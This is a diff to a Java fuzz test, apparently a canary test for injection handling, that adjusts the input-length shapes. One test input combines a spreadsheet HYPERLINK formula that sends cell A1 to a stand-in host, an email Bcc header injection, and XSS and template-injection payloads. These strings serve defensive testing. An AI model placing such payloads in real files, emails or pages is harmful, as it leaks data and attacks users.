@@ -117,9 +117,9 @@ class CanaryTest extends AttackTest {
     private static final long SEED = Long.getLong("fuzz.seed", 1);
 
     /** Many of the longest would only take time. */
-    private static final int VERY_LONG_EVERY = 41;
+    private static final int VERY_LONG_EVERY = 83;
 
-    private static final List<Shape> MOST_SHAPES = List.of(Shape.SHORT, Shape.STRANGE, Shape.JUST_TOO_LONG, Shape.LONG);
+    private static final List<Shape> MOST_SHAPES = List.of(Shape.SHORT, Shape.STRANGE, Shape.JUST_TOO_LONG);
 
     /** Typed, but no words of supervision: see the plain columns of confidential-columns.yaml. */
     private static final Set<String> NOT_CONTENT = Set.of("correct-address.address", "write-record.cases.reference");
@@ -164,7 +164,6 @@ class CanaryTest extends AttackTest {
                 "=HYPERLINK(\"http://example.org/?\"&A1,\"%s\")\r\nBcc: everybody@example.org\r\n\r\n"
                         + "<b>x</b><script>x</script><img src=x onerror=x> ]]> ${now()}\t😀👩‍👧‍👦e\u0301 \u202Eשלום\u202C مرحبا"),
         JUST_TOO_LONG(4_001),
-        LONG(12_000),
         VERY_LONG(200_000);
 
         private final String pattern;
